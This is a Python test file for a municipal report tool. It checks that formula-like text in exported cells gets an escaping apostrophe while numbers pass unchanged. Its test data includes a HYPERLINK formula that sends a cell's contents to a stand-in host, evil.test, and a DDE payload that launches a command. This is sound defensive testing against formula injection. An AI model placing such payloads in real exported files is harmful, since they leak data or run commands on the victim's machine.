"""A formula in an exported text cell is escaped; numbers stay numbers."""

from __future__ import annotations

import io

import docx
import pytest

from kommunanalys.demo.build import demo_goal_file
from kommunanalys.goals.goal_file import read_goal_file
from kommunanalys.goals.repository import GoalRepository
from kommunanalys.report.cells import safe_cell
from kommunanalys.report.content import build_report
from kommunanalys.report.docx_report import render_docx
from kommunanalys.store import Store

FORMULA = '=HYPERLINK("https://evil.test/?d="&A1;"Klicka")'


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        FORMULA,
        "+46 8 123",  # a phone number with a plus is text, and would be summed
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "-cmd|' /C calc'!A0",
    ],
)
def test_formula_like_texts_get_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        3,
        -3,
        -3.25,
        0.0,
        None,
        "-3,2",
        "+4 %",
        "−1 234",
        "-1 234,5",
        "6,4 %",
        "-0.5",
        "1e-3",
        "Ekonomienheten",
        "",
        "–",
        "a=b",
    ],
)
def test_numbers_and_plain_texts_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_a_formula_in_an_exported_text_cell(store: Store) -> None:
    """An indicator named like a formula reaches the Word report's tables escaped."""
    repo = GoalRepository(store)
    repo.save_book(read_goal_file(demo_goal_file()), actor="test")
    store.backend.execute(
        "UPDATE goal_indicator SET name = ? WHERE id = ?", (FORMULA, "sjukfranvaro")
    )
    content = build_report(repo, "socialnamnden", 2024)
    document = docx.Document(io.BytesIO(render_docx(content, charts=False)))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    # values stay as the report formats them (negative numbers are not escaped)
    assert not [c for c in cells if c.startswith("'") and c[1:2].isdigit()]
